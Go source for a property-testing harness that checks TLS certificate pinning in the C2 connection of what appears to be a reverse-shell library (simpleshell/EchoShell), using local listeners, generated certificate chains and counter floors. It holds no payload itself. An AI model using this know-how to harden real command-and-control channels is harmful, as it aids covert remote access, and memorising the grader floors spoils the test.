	r.Rule = "every call to simpleshell.Go (EchoShell) is made in a child process against a listener created for that call alone, so that TCP accepts, client hellos, completed handshakes, application bytes, handler runs and echoed tokens are attributed to one call. Servers: raw crypto/tls listeners answering HTTP/1.1 by hand (log handshake-done / first-application-byte) and net/http servers (HTTP/2 or 1.1, full duplex, header flushed at once); TLS 1.2 or 1.3; identities = fresh P-256 keys, self-signed with chains of 1–3 certificates (extras are unrelated self-signed P-256/Ed25519 certificates), plus leaves signed by a harness CA that the children trust through SSL_CERT_FILE (valid / wrong SAN / expired / signed by an untrusted CA). Engines: single = every key × every spelling class (" + strconv.Itoa(len(spellAll)) + " classes: exact, prefixed, match at chain position 1/2, non-canonical padding bits, CR/LF, other server's pin, single-bit flips in either half, certificate hash, double prefix, no padding, URL alphabet, 31/33 bytes, hex, prefix only, garbage, spaces, …, no fingerprint; and white space: " + strconv.Itoa(len(spellBlank)) + " whitespace-only strings - one space / tab / LF / CR / CRLF / NBSP, 2–52 spaces, PRNG mixes of space, tab, CR, LF, VT, FF, NBSP, NEL, em and ideographic space, sha256// followed by nothing but such - and " + strconv.Itoa(len(spellWhitespace)-len(spellBlank)) + " forms of a pin with white space around it - LF / CRLF / tab / NBSP / space / PRNG mixes before, after or on both sides of this server's or another server's pin, between or before the prefix), one key per process in PRNG order; seq = PRNG sequences of 2–6 calls (30% right, 20% wrong, 13% malformed, 4% whitespace-only, 3% whitespace-padded, 30% un-pinned; 60% self-signed / 20% CA-valid / 20% CA-invalid servers, every second white-space call against a CA-valid server, where being taken for 'no fingerprint' shows as an exchange), 10 sequences per process; conc = 2–8 such calls released together by a barrier, 5 sets per process, every deviating call repeated alone; same = 2–5 calls of one process against ONE listener (right then wrong pin, wrong-right-wrong, malformed and un-pinned in between; 7 patterns, 7 sequences per process), every second process of this engine first configured like an application that wants TLS session resumption (http.DefaultTransport.TLSClientConfig = &tls.Config{ClientSessionCache: LRU}, set before the transport's first use and before every snapshot; un-pinned calls keep ordinary validation), and after each sequence the harness's own TLS client shows that the listener does let a second connection resume a session (TLS 1.2 and 1.3); ca = a fixed script (un-pinned round over all identity classes, pinned calls, three whitespace-only and three whitespace-padded fingerprints (PRNG choice) against CA-valid servers, un-pinned round, concurrent mix, un-pinned round), one script per process. PROCESS CONFIGURATION: before its first call a child process puts on http.DefaultClient what an embedding application may have put there - stock (Transport nil); an *http.Transport of its own: &http.Transport{}, a Clone of http.DefaultTransport, one with its own TLSClientConfig (RootCAs = the trusted CA, ServerName 127.0.0.1, MinVersion) and timeouts, one with a Proxy func returning nil, a Clone with DisableKeepAlives; a RoundTripper that is not an *http.Transport around a Clone; http.DefaultClient replaced by &http.Client{Timeout, Jar} without and with a transport of its own - a function of (engine, batch number): every second process of seq / conc / single and of same (those without session cache), and all ca processes but the first, are configured (" + strconv.Itoa(len(clientConfigs)) + " configurations); under every configuration ordinary validation is what the oracle assumes (roots = the harness CA, name = 127.0.0.1), so the oracle of a call stays a function of its own chain and fingerprint. In every engine one call in four spells the scheme of its C2 URL HTTPS://, Https:// or hTTpS:// (PRNG). Oracle of a call = function of its own presented chain and fingerprint string only: un-pinned ⇒ accept iff the leaf chains to the trusted CA, names 127.0.0.1 and is in date (by construction); pinned ⇒ strip one sha256// prefix, decode as RFC 4648 standard base64 (harness decoder cross-checked against encoding/base64), 32 bytes else refuse outright (no TCP connection may reach the server), accept iff equal to SHA-256 of the SubjectPublicKeyInfo of SOME presented certificate, else refuse with zero application bytes. Negative observations are read after a probe connection of the harness has been accepted behind the call's own connections and all server-side handlers have ended. Snapshot before and after every call (around the whole set for concurrent calls) of http.DefaultClient (identity, Transport, CheckRedirect, Jar, Timeout), of every exported field of http.DefaultTransport and of the *http.Transport the process put on http.DefaultClient (also inside the wrapper, also when it is no longer where the process put it) - scalars by value, functions / pointers / interfaces by identity, maps by identity and keys, slices by identity, length and elements - and of every exported field of their TLSClientConfig (deep: InsecureSkipVerify, VerifyConnection, RootCAs, ServerName, NextProtos, Min/MaxVersion, ClientSessionCache, …); in every process the monitor first passes a positive control on a throw-away clone (TLS configuration replaced, edited in place, ForceAttemptHTTP2 flipped: each must be reported). CERTIFICATE CONTENT (engine twin): besides the identities above, " + strconv.Itoa(r.N(4, 16)) + " twin groups of servers whose certificates agree AT EVERY CHAIN POSITION in everything but the key - subject, issuer, serial number, validity, names, Subject Key Identifier, Authority Key Identifier (read back from the DER and verified in every process: twin_groups_verified) - self-signed leaves or leaves issued by the trusted CA resp. by a home-made CA certificate copying the trusted CA's subject, serial number and Subject Key Identifier; chains of 1-3; identifier = RFC 5280 method 1 of the real key or 8 / 20 freely chosen bytes; members real, clone, (clone2), and recert = the real KEY under a certificate with other subject, serial number and identifier. 8 sequences per process, all groups in turn, 8 patterns: real server first then the clone under the real pin and the clone's own; the clone first then the real server under its own pin; a refused handshake first; the same key under the other certificate; the pin of the second certificate of the chain; un-pinned and malformed calls in between; a barrier-released concurrent set over the group followed by a sequence; PRNG sequences of 3-6 calls over (member, pin of member, chain position). Counted: wrong-key pins configured after a handshake with the pin's owner in the same process, own-key pins after a handshake with a twin. C2 HOST SPELLING (engine host): the host of the C2 URL is a NAME instead of the listener's IP literal, " + strconv.Itoa(len(hostKinds)) + " kinds (" + strings.Join(hostKinds, ", ") + "): PRNG labels under " + hostZone + ", the single labels c13host and localhost, internationalised labels in Unicode and in xn-- spelling (table of " + strconv.Itoa(len(idnLabels)) + "), each plain, with the root dot, in PRNG mixed case; names are not resolved: the processes of this engine have HTTPS_PROXY=http://127.0.0.1:port in their environment (set before net/http first reads it), a plain CONNECT proxy run by the harness in the same process that tunnels to 127.0.0.1:<port of the request> and records the request (localhost is exempt from proxies by net/http and is connected to directly, /etc/hosts). One sequence = 7 calls to hosts of one kind in PRNG order: matching pin and wrong pin against self-signed servers, wrong pin and no fingerprint and matching pin (of the second certificate where there is one) against CA-valid servers whose certificates name *." + hostZone + ", c13host, localhost, no fingerprint against a self-signed server, a malformed fingerprint; 7 sequences per process, processes configured in turn with the " + strconv.Itoa(len(proxyHonouringConfigs)) + " client configurations whose transport consults the environment for a proxy. The listener records the server name of every client hello: counted are the calls in which it differs from the host as the URL spells it (root dot dropped by crypto/tls, Unicode label turned into an A-label by net/http) - the harness's own canonical form of the name (one root dot removed, ASCII lower case, table) must agree with the CONNECT target and with the client hello, else inconclusive. Oracle unchanged for pinned calls (the host is not looked at); an un-pinned call to a name is accepted iff the chain is valid AND the certificate names the host. " + longRule(r) + cliRule + " distinct_nontrivial = distinct call shapes (spelling class, identity class, chain length, match position, server kind, protocol, TLS version, expected outcome) plus distinct sequence / set shapes (the ordered resp. sorted list of call shapes)"
	r.Assumptions = []string{
		"keys are fresh per run (crypto/rand); the seed fixes the shape of every case (identity index, spelling class, bit position, server kind, order), not the key bytes",
		"CR and LF inside a fingerprint are skipped as RFC 4648 decoders commonly do (encoding/base64 does); for such strings both 'refused outright' and 'treated as the stripped string' are accepted",
		"net/http's lazy HTTP/2 configuration of DefaultTransport (TLSClientConfig/TLSNextProto filled in on first use or Clone) is triggered by the harness before the first snapshot and is not attributed to the library",
		"on net/http servers 'application byte' is approximated by the connection becoming active (ConnState) or the handler running; the byte-exact monitor is the raw TLS server",
		"the scheme of a URL is case-insensitive (RFC 3986 §3.1; net/url lower-cases it): HTTPS://host/io names the same resource as https://host/io, so the oracle of a call does not look at the spelling of the scheme",
		"a TLS client session cache on http.DefaultTransport is process configuration the application is entitled to (it is set by the harness, in every second process of the same-server engine, before the first snapshot); the oracle of a call stays a function of its own chain and fingerprint — a session left behind by an earlier connection to the same server is exactly the kind of history the decision must not depend on",
		"a fingerprint that is configured (non-empty) but consists of white space only - also after sha256// - is not 'no fingerprint' and is not the base64 of 32 bytes: it is malformed and must be refused outright (no connection). For a pin with white space around it the oracle follows the string alone, as for every other spelling: CR/LF are skipped (accept iff the rest matches; refusing outright tolerated), any other white space makes the string not base64, hence malformed; whatever the spelling, an exchange with a server none of whose keys the decoded string names is a violation",
		"what an application puts on http.DefaultClient before calling the library (a transport of its own, a wrapper, another client with Timeout / Jar) is process configuration it is entitled to and exactly the 'default HTTP client settings' the statement says are left untouched: the harness installs it in the child before the first call and the first snapshot (with the transport's lazy HTTP/2 set-up already triggered), never changes it afterwards, and every configuration keeps ordinary validation as the oracle assumes (trusted roots = the harness CA, verified name 127.0.0.1); whether a pinned call goes through the application's transport / proxy function / wrapper is not judged (counted only: wrapper_round_trips, own_proxy_func_consultations)",
		"everything in a certificate except its SubjectPublicKeyInfo is chosen freely by whoever makes the certificate (with a fingerprint configured no chain is built, nothing ties a Subject Key Identifier, a serial number or a subject to the key): two certificates that agree in all of it and differ in the key are different servers as far as the statement goes, the same key under another certificate is the same server; the twin engine's oracle is the unchanged function of the call's own chain and fingerprint",
		"every client the oracle speaks about lives in the process that runs the listener (the library under test, the probe, the CONNECT proxy): a connection accepted from a socket that is not one of this process's own descriptors (asked at once after accept) - a client of another process that was given this ephemeral port before - is closed, counted (connections_from_other_processes_ignored_by_the_listeners) and belongs to no call",
		"a web proxy named by HTTPS_PROXY (scheme http://, i.e. a plain CONNECT proxy) is process environment the library is not responsible for; the CONNECT request to it is not shell traffic and is not judged; 'server' stays the TLS listener at the other end of the tunnel: a malformed fingerprint must not produce a connection to it (hence no CONNECT either), a mismatching one no application byte. The proxy stands in for name resolution only (every name is 127.0.0.1, the port selects the listener)",
		"names: host names are case-insensitive, a trailing root dot and the Unicode / xn-- spellings of a label name the same host (RFC 3986 §3.2.2, RFC 6125 §6.4, RFC 5891); crypto/x509 matches certificate names that way, which is what 'ordinary certificate validation' means for an un-pinned call. The idn-unicode-mixedcase kind is offered HTTP/1.1 only: go1.23's net/http cannot complete an HTTP/2 request to a non-ASCII host that is not in lower case (its HTTP/1 layer and its HTTP/2 connection pool disagree on the A-label and it redials until cancelled), with or without a fingerprint",
		longAssumption,
		cliAssumption,
		"replaying a case re-runs the whole batch that shared its process (≤10 sequences / 5 sets / one key / 8 twin sequences / 7 host sequences / 4 long-chain sequences / all cases of the cli engine that use the same build of the tool), because the property is about process history",
	}
	nSelf, nCA := r.N(8, 64), r.N(3, 9)
	nTwin := r.N(4, 16)
	ids, caPEM, ca, caDER, err := genIdentities(nSelf, nCA, nTwin)
	if err != nil {
		r.Inconclusive("cannot generate identities: " + err.Error())
		return
	}
	longIDs, err := genLong(r, len(ids), ca, caDER)
	if err != nil {
		r.Inconclusive("cannot generate the long-chain identities: " + err.Error())
		return
	}
	b, _ := json.Marshal(idFile{IDs: ids})
	idPath := filepath.Join(r.Work, "identities.json")
	caPath := filepath.Join(r.Work, "ca.pem")
	if err := os.WriteFile(idPath, b, 0o600); err != nil {
		r.Inconclusive(err.Error())
		return
	}
	lb, _ := json.Marshal(idFile{IDs: longIDs})
	if err := os.WriteFile(longFile(idPath), lb, 0o600); err != nil {
		r.Inconclusive(err.Error())
		return
	}
	os.WriteFile(caPath, caPEM, 0o644)
	// Go reads these once per process, at the first use of the system pool.
	os.Setenv("SSL_CERT_FILE", caPath)
	os.Setenv("SSL_CERT_DIR", filepath.Join(r.Work, "no-such-dir"))
	r.Extra("identities", map[string]int{"selfsigned_keys": nSelf, "ca_signed_per_class": nCA, "twin_groups": nTwin})
	r.Extra("url_host_kinds", hostKinds)
	r.Extra("long_chain_identities", longSummary(longIDs))
	r.Extra("spelling_classes", spellAll)

	var batches []batch
	add := func(engine string, total, per int) {
		for s := 0; s < total; s += per {
			n := per
			if s+n > total {
				n = total - s
			}
			want := false
			for i := s; i < s+n; i++ {
				if engine == "single" {
					for si := range spellAll {
						want = want || r.Want(engine, i*len(spellAll)+si)
					}
				} else {
					want = want || r.Want(engine, i)
				}
			}
			if want {
				bt := batch{engine: engine, start: s, count: n, cfg: clientConfigFor(engine, s/per)}
				if engine == "same" && (s/per)%2 == 1 { // every second process of the same-server engine
					bt.opt = "session-cache"
				}
				batches = append(batches, bt)
			}
		}
	}
	add("ca", r.N(5, 18), 1)
	add("conc", r.N(40, 1000), 5)
	add("seq", r.N(80, 3000), 10)
	add("same", r.N(56, 1400), 7)
	add("single", nSelf, 1)
	add("twin", r.N(32, 640), 8)
	add("host", r.N(len(hostKinds)*3, len(hostKinds)*50), 7)
	longPer := r.N(2, 5) // sequences per long-chain identity
	add("long", len(longIDs)*longPer, longPerProcess)
	if nCLI := len(cliCombos(r)); nCLI > 0 {
		// first in the queue: it builds the tool while the other processes run
		saved := batches
		batches = nil
		add("cli", nCLI, nCLI)
		batches = append(batches, saved...)
	}
	var died atomic.Int64
	// at most 8 processes at a time: every call leaves one or two connections in
	// TIME-WAIT for a minute, and the machine's ephemeral ports are a shared budget
	mon.Parallel(len(batches), min(runtime.NumCPU(), 8), func(i int) {
		bt := batches[i]
		res, err := r.RunChild("", "c13", 10*time.Minute, bt.engine, strconv.Itoa(bt.start), strconv.Itoa(bt.count), idPath, bt.opt, bt.cfg)
		if err != nil {
			died.Add(1)
			st := string(res.Stderr)
			if len(st) > 3000 {
				st = st[len(st)-3000:]
			}
			if !res.TimedOut && strings.Contains(st, "lib/simpleshell") && (strings.Contains(st, "fatal error") || strings.Contains(st, "panic")) {
				r.Violate(bt.engine, bt.start, "child-fatal", fmt.Sprintf("process running %s %d..%d died in the library: %v", bt.engine, bt.start, bt.start+bt.count-1, err), map[string]any{"stderr_tail": st})
			} else {
				r.Inconclusive(fmt.Sprintf("child %s %d..%d: %v; stderr tail: %s", bt.engine, bt.start, bt.start+bt.count-1, err, st))
			}
		}
	})
	r.Count("application_bytes_seen_on_refused", 0) // make the key appear even when (as it must be) nothing was seen
	r.Count("process_session_cache_stores", 0)
	r.Count("process_session_cache_hits", 0)
	r.Count("same_server_resumption_controls_failed", 0)
	r.Count("client_config_not_in_place_at_process_end", 0)
	r.Count("child_processes", int64(len(batches)))
	r.Count("child_processes_died", died.Load())
	r.Logf("%d child processes, %d calls", len(batches), r.Counter("calls"))

	r.Count("proxy_requests_other_than_connect", 0)
	r.Count("proxy_dial_failures", 0)
	r.Count("waits_for_a_free_listener_port", 0)
	r.Count("calls_repeated_after_a_reset_the_listener_never_saw", 0)
	r.Count("connections_from_other_processes_ignored_by_the_listeners", 0)
	r.Count("host_sequences_skipped_localhost_does_not_resolve", 0)
	// certificate content: twins
	twinProcs := int64((r.N(32, 640) + 7) / 8)
	r.Floor("twin_sequences", int64(r.N(32, 640)))
	r.Floor("twin_groups_verified", twinProcs*int64(nTwin))
	r.Floor("twin_chain_positions_verified_same_content_different_key", int64(r.N(40, 2500)))
	r.Floor("twin_calls", int64(r.N(150, 3000)))
	r.Floor("twin_concurrent_sets", int64(r.N(4, 80)))
	r.Floor("twin_pin_calls_expected_refused", int64(r.N(50, 1000)))
	r.Floor("twin_pin_calls_refused_at_handshake", int64(r.N(50, 1000)))
	r.Floor("twin_pin_calls_after_a_handshake_with_the_pin_owner_in_this_process", int64(r.N(45, 700)))
	r.Floor("twin_own_key_pin_calls_expected_accepted", int64(r.N(50, 1000)))
	r.Floor("twin_own_key_pin_calls_accepted", int64(r.N(50, 1000)))
	r.Floor("twin_own_key_pin_calls_after_a_handshake_with_a_twin_in_this_process", int64(r.N(40, 600)))
	r.Floor("twin_pin_calls_at_chain_position_1_expected_refused", int64(r.N(6, 100)))
	r.Floor("twin_own_key_pin_calls_at_chain_position_1_expected_accepted", int64(r.N(6, 100)))
	r.Floor("twin_same_key_other_certificate_pin_calls", int64(r.N(4, 80)))
	r.Floor("twin_unpinned_calls", int64(r.N(8, 160)))
	// C2 host spelled as a name
	hostSeqs := r.N(len(hostKinds)*3, len(hostKinds)*50)
	hostProcs := int64((hostSeqs + 6) / 7)
	r.Floor("host_sequences", int64(hostSeqs))
	r.Floor("child_processes_with_https_proxy_in_the_environment", hostProcs)
	r.Floor("child_processes_in_which_localhost_resolves_to_127_0_0_1", hostProcs)
	r.Floor("host_calls", int64(r.N(300, 5000)))
	for _, k := range hostKinds {
		r.Floor("host_kind:"+k, int64(r.N(14, 250)))
	}
	r.Floor("host_calls_tunnelled_through_the_connect_proxy", int64(r.N(220, 3600)))
	r.Floor("connect_targets_agreeing_with_the_harness_on_the_name", int64(r.N(220, 3600)))
	r.Floor("host_calls_connected_directly_by_name", int64(r.N(12, 200)))
	r.Floor("host_calls_with_client_hello", int64(r.N(240, 4000)))
	r.Floor("host_calls_whose_client_hello_names_the_server_differently_from_the_url", int64(r.N(120, 2000)))
	r.Floor("host_calls_whose_client_hello_names_the_server_as_the_url_does", int64(r.N(90, 1500)))
	r.Floor("pinned_matching_host_calls_accepted", int64(r.N(80, 1300)))
	r.Floor("pinned_mismatching_host_calls_refused_at_handshake", int64(r.N(80, 1300)))
	r.Floor("pinned_matching_host_calls_whose_client_hello_names_the_server_differently_from_the_url", int64(r.N(40, 650)))
	r.Floor("pinned_mismatching_host_calls_whose_client_hello_names_the_server_differently_from_the_url", int64(r.N(40, 650)))
	r.Floor("pinned_mismatching_host_calls_to_servers_passing_ordinary_validation", int64(r.N(30, 500)))
	r.Floor("unpinned_host_calls_accepted", int64(r.N(30, 500)))
	r.Floor("unpinned_matching_host_calls_whose_client_hello_names_the_server_differently_from_the_url", int64(r.N(15, 250)))
	r.Floor("unpinned_host_calls_expected_refused", int64(r.N(40, 650)))
	r.Floor("unpinned_host_calls_to_servers_whose_valid_certificate_names_another_host", int64(r.N(4, 60)))
	r.Floor("malformed_host_calls", int64(r.N(35, 600)))

	longFloors(r, longIDs, longPer)
	cliFloors(r)

	r.Floor("calls", int64(r.N(600, 15000)))
	r.Floor("accepts_expected", int64(r.N(150, 4000)))
	r.Floor("accepts_held", int64(r.N(150, 4000)))
	r.Floor("refusals_expected", int64(r.N(300, 8000)))
	r.Floor("refusals_held", int64(r.N(300, 8000)))
	r.Floor("malformed_cases", int64(r.N(120, 2000)))
	r.Floor("malformed_refused_with_zero_connections", int64(r.N(120, 2000)))
	r.Floor("refusals_held_with_zero_application_bytes", int64(r.N(150, 4000)))
	r.Floor("raw_server_connections", int64(r.N(150, 4000)))
	r.Floor("handshakes_seen", int64(r.N(40, 1000)))
	r.Floor("handler_runs", int64(r.N(150, 4000)))
	r.Floor("tokens_echoed", int64(r.N(150, 4000)))
	r.Floor("snapshot_checks", int64(r.N(500, 12000)))
	r.Floor("probes", int64(r.N(300, 8000)))
	r.Floor("sequences", int64(r.N(80, 3000)))
	r.Floor("same_server_sequences", int64(r.N(56, 1400)))
	r.Floor("same_server_sequences_with_process_session_cache", int64(r.N(28, 700)))
	r.Floor("child_processes_with_process_session_cache", int64(r.N(4, 100)))
	r.Floor("mismatching_pins_after_an_accepted_pinned_call_to_the_same_server_with_process_session_cache", int64(r.N(20, 500)))
	r.Floor("process_session_cache_lookups", int64(r.N(4, 100)))
	r.Floor("same_servers_shown_to_resume_tls13_sessions", int64(r.N(10, 300)))
	r.Floor("same_servers_shown_to_resume_tls12_sessions", int64(r.N(3, 100)))
	r.Floor("calls_with_uppercase_scheme", int64(r.N(120, 3000)))
	r.Floor("pinned_matching_calls_with_uppercase_scheme_to_servers_failing_ordinary_validation", int64(r.N(20, 500)))
	r.Floor("pinned_mismatching_calls_with_uppercase_scheme_to_servers_passing_ordinary_validation", int64(r.N(1, 50)))
	r.Floor("unpinned_calls_with_uppercase_scheme", int64(r.N(20, 500)))
	r.Floor("concurrent_sets", int64(r.N(40, 1000)))
	r.Floor("single_keys", int64(nSelf))
	r.Floor("ca_child_calls", int64(r.N(150, 500)))
	r.Floor("match_pos_0", int64(r.N(60, 1500)))
	r.Floor("match_pos_1", int64(r.N(15, 400)))
	r.Floor("match_pos_2", int64(r.N(4, 100)))
	r.Floor("match_pos_absent", int64(r.N(80, 2000)))
	r.Floor("unpinned_calls", int64(r.N(150, 4000)))
	r.Floor("unpinned_calls_after_pinned_calls", int64(r.N(100, 3000)))
	r.Floor("unpinned_valid_chain_accepted", int64(r.N(25, 700)))
	r.Floor("oracle_decoder_agreements", int64(r.N(300, 8000)))
	// white space for a fingerprint
	r.Floor("whitespace_only_fingerprints", int64(r.N(80, 800)))
	r.Floor("whitespace_only_fingerprints_refused_with_zero_connections", int64(r.N(80, 800)))
	r.Floor("whitespace_only_fingerprints_to_servers_passing_ordinary_validation", int64(r.N(12, 120)))
	r.Floor("whitespace_padded_fingerprints", int64(r.N(100, 1000)))
	r.Floor("whitespace_padded_fingerprints_to_servers_passing_ordinary_validation", int64(r.N(12, 120)))
	r.Floor("whitespace_padded_mismatching_pins_to_servers_passing_ordinary_validation", int64(r.N(6, 60)))
	for _, c := range spellWhitespace {
		r.Floor("spelling:"+c, int64(nSelf)/2)
	}
	// what the process put on http.DefaultClient
	for _, c := range clientConfigs {
		r.Floor("child_processes_with_client_config:"+c, 1)
		r.Floor("calls_under_client_config:"+c, int64(r.N(20, 200)))
		if ownTransportConfig(c) {
			r.Floor("unpinned_after_pinned_under:"+c, int64(r.N(5, 50)))
		}
	}
	r.Floor("child_processes_with_own_default_client_transport", int64(r.N(10, 150)))
	r.Floor("calls_in_processes_with_own_default_client_transport", int64(r.N(300, 5000)))
	r.Floor("pinned_matching_calls_in_processes_with_own_default_client_transport", int64(r.N(70, 1200)))
	r.Floor("pinned_mismatching_calls_in_processes_with_own_default_client_transport", int64(r.N(50, 900)))
	r.Floor("unpinned_calls_after_pinned_calls_in_processes_with_own_default_client_transport", int64(r.N(60, 1000)))
	r.Floor("unpinned_valid_chain_accepted_after_pinned_calls_in_processes_with_own_default_client_transport", int64(r.N(15, 200)))
	r.Floor("unpinned_invalid_chain_refused_after_pinned_calls_in_processes_with_own_default_client_transport", int64(r.N(40, 700)))
	r.Floor("unpinned_calls_after_pinned_calls_in_processes_with_other_default_client_settings", int64(r.N(8, 100)))
	r.Floor("snapshot_checks_covering_the_process_own_transport", int64(r.N(300, 5000)))
	r.Floor("own_transport_fields_compared", int64(r.N(300, 5000))*40)
	r.Floor("snapshot_monitor_controls_passed", int64(len(batches)))
	r.Floor("own_socket_controls_passed", int64(len(batches)*9/10))
	r.Floor("wrapper_round_trips", int64(r.N(3, 30)))
	r.Floor("own_proxy_func_consultations", int64(r.N(3, 30)))
}

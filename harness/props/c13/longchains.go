package c13

// Long chains: the chain-length dimension.
//
// The statement accepts a server that presented a certificate with the pinned
// key, and the quantifier says "certificate chains with the match at any
// position".  The other engines serve chains of 1-3 certificates.  Here the
// servers present chains of 4 … 40 certificates - and a few as long as
// crypto/tls will carry at all (the certificate message may be 256 KiB: some
// 670 small certificates; the largest chain that handshakes on TLS 1.2 and on
// TLS 1.3 is found at run time by the harness's own TLS client) - as piles of
// unrelated self-signed certificates behind a self-signed leaf and as real CA
// hierarchies (leaf, intermediates, root; root own or the trusted harness CA;
// root presented or left out as most real servers do).  The fingerprint is the
// pin of the first, a middle, the 10th, 11th, 16th, the last and a PRNG-chosen
// certificate; wrong pins are tried against the same servers.  The oracle is
// the unchanged function of the call's own presented chain and fingerprint.

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/sha256"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	mrand "math/rand/v2"
	"net"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

const (
	longPile        = "pile"                          // self-signed leaf + unrelated self-signed certificates
	longOwnRoot     = "hierarchy-own-root"            // leaf, intermediates, a root of its own (untrusted), all presented
	longTrustedRoot = "hierarchy-trusted-root"        // leaf, intermediates, the trusted harness CA, all presented
	longRootOmitted = "hierarchy-trusted-root-absent" // leaf and intermediates presented; the trusted root is NOT presented
)

var longKinds = []string{longPile, longOwnRoot, longTrustedRoot, longRootOmitted}

// longLensQuick: the chain lengths every quick run serves (besides PRNG ones
// and the giants): around every named position, and both ends of 4 … 40.
var longLensQuick = []int{4, 5, 8, 10, 11, 12, 16, 17, 24, 33, 40}

const longPerProcess = 4 // sequences per child process

func longFile(idPath string) string {
	return filepath.Join(filepath.Dir(idPath), "long-identities.json")
}

// pile is a self-signed leaf followed by n-1 unrelated self-signed
// certificates (keys are never shared between identities).
func pile(n int, cn string) ([][]byte, *ecdsa.PrivateKey, error) {
	k, err := p256()
	if err != nil {
		return nil, nil, err
	}
	leaf, err := makeCert(cn, &k.PublicKey, k, nil, false, loop, nil, false)
	if err != nil {
		return nil, nil, err
	}
	chain := [][]byte{leaf}
	for j := 1; j < n; j++ {
		x, err := extraCert(j) // every other one Ed25519
		if err != nil {
			return nil, nil, err
		}
		chain = append(chain, x)
	}
	return chain, k, nil
}

// hierarchy makes a genuine chain: leaf, intermediates, root.  root == nil: a
// root of its own.  presentRoot: the root is the last presented certificate,
// else it is left out (and returned as omitted).  n = presented certificates.
func hierarchy(n int, tag string, root *signer, rootDER []byte, presentRoot bool) (chain [][]byte, key *ecdsa.PrivateKey, omitted [][]byte, err error) {
	if root == nil {
		k, err := p256()
		if err != nil {
			return nil, nil, nil, err
		}
		rootDER, err = makeCert("c13 long "+tag+" root", &k.PublicKey, k, nil, true, nil, nil, false)
		if err != nil {
			return nil, nil, nil, err
		}
		c, err := x509.ParseCertificate(rootDER)
		if err != nil {
			return nil, nil, nil, err
		}
		root = &signer{c, k}
	}
	ints := n - 1
	if presentRoot {
		ints = n - 2
	}
	parent := root
	var down [][]byte // top-down
	for j := 0; j < ints; j++ {
		k, err := p256()
		if err != nil {
			return nil, nil, nil, err
		}
		der, err := makeCert(fmt.Sprintf("c13 long %s intermediate %d below the root", tag, j+1), &k.PublicKey, nil, parent, true, nil, nil, false)
		if err != nil {
			return nil, nil, nil, err
		}
		c, err := x509.ParseCertificate(der)
		if err != nil {
			return nil, nil, nil, err
		}
		down = append(down, der)
		parent = &signer{c, k}
	}
	key, err = p256()
	if err != nil {
		return nil, nil, nil, err
	}
	leaf, err := makeCert("c13 long "+tag+" leaf", &key.PublicKey, nil, parent, false, loop, sanNames, false)
	if err != nil {
		return nil, nil, nil, err
	}
	chain = [][]byte{leaf}
	for j := len(down) - 1; j >= 0; j-- {
		chain = append(chain, down[j])
	}
	if presentRoot {
		chain = append(chain, rootDER)
	} else {
		omitted = [][]byte{rootDER}
	}
	return chain, key, omitted, nil
}

// handshakes: does the harness's own TLS client complete a handshake of the
// given version with a server presenting chain, and see every certificate?
func handshakes(chain [][]byte, key *ecdsa.PrivateKey, ver uint16) bool {
	l, err := tls.Listen("tcp", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{{Certificate: chain, PrivateKey: key}}, MinVersion: ver, MaxVersion: ver})
	if err != nil {
		return false
	}
	defer l.Close()
	done := make(chan struct{})
	go func() {
		defer close(done)
		c, err := l.Accept()
		if err != nil {
			return
		}
		c.SetDeadline(time.Now().Add(20 * time.Second))
		c.(*tls.Conn).Handshake()
		var b [1]byte
		c.Read(b[:])
		c.Close()
	}()
	c, err := tls.DialWithDialer(&net.Dialer{Timeout: 10 * time.Second}, "tcp", l.Addr().String(), &tls.Config{InsecureSkipVerify: true})
	ok := false
	if err == nil {
		ok = len(c.ConnectionState().PeerCertificates) == len(chain) && c.ConnectionState().Version == ver
		c.Close()
	} else {
		l.Close()
	}
	<-done
	return ok
}

// largestPile finds, by bisection with the harness's own client, the largest
// prefix of pool (≥ lo certificates) that handshakes on TLS 1.3 and on TLS 1.2
// within crypto/tls's handshake message limits.  0 = not even lo does.
func largestPile(pool [][]byte, key *ecdsa.PrivateKey, lo int) (best int, conns int) {
	search := func(ver uint16, lo, hi int) int { // lo is known to work or is tried first; hi = first length not to try
		conns++
		if !handshakes(pool[:lo], key, ver) {
			return 0
		}
		conns++
		if handshakes(pool[:hi-1], key, ver) {
			return hi - 1
		}
		hi--
		for hi-lo > 1 {
			m := (lo + hi) / 2
			conns++
			if handshakes(pool[:m], key, ver) {
				lo = m
			} else {
				hi = m
			}
		}
		return lo
	}
	best = search(tls.VersionTLS13, lo, len(pool)+1)
	if best == 0 {
		return 0, conns
	}
	conns++
	if !handshakes(pool[:best], key, tls.VersionTLS12) {
		best = search(tls.VersionTLS12, lo, best+1)
	}
	return best, conns
}

// genLong makes the long-chain identities (parent).  IDs continue after base.
func genLong(r *mon.Run, base int, ca *signer, caDER []byte) ([]*identity, error) {
	var ids []*identity
	add := func(kind, class string, key *ecdsa.PrivateKey, chain, omitted [][]byte) error {
		kb, err := x509.MarshalPKCS8PrivateKey(key)
		if err != nil {
			return err
		}
		ids = append(ids, &identity{ID: base + len(ids), Class: class, Chain: chain, Key: kb, Long: kind, Omitted: omitted})
		return nil
	}
	mk := func(n int, kind string) error {
		tag := fmt.Sprintf("%d %s of %d", len(ids), kind, n)
		switch kind {
		case longPile:
			chain, k, err := pile(n, "c13 long "+tag)
			if err != nil {
				return err
			}
			return add(kind, "selfsigned", k, chain, nil)
		case longOwnRoot:
			chain, k, _, err := hierarchy(n, tag, nil, nil, true)
			if err != nil {
				return err
			}
			return add(kind, "ca-untrusted", k, chain, nil)
		}
		chain, k, om, err := hierarchy(n, tag, ca, caDER, kind == longTrustedRoot)
		if err != nil {
			return err
		}
		// control: by construction ordinary validation accepts this chain (it is what the
		// oracle of an un-pinned call assumes of class ca-valid)
		roots, inter := x509.NewCertPool(), x509.NewCertPool()
		roots.AddCert(ca.cert)
		for _, der := range chain[1:] {
			if c, err := x509.ParseCertificate(der); err == nil && !bytes.Equal(der, caDER) {
				inter.AddCert(c)
			}
		}
		leaf, err := x509.ParseCertificate(chain[0])
		if err != nil {
			return err
		}
		if _, err := leaf.Verify(x509.VerifyOptions{Roots: roots, Intermediates: inter, DNSName: "127.0.0.1"}); err != nil {
			return fmt.Errorf("hierarchy of %d certificates under the trusted CA does not pass ordinary validation: %v", n, err)
		}
		r.Count("long_chain_trusted_hierarchies_verified_by_the_harness", 1)
		return add(kind, "ca-valid", k, chain, om)
	}
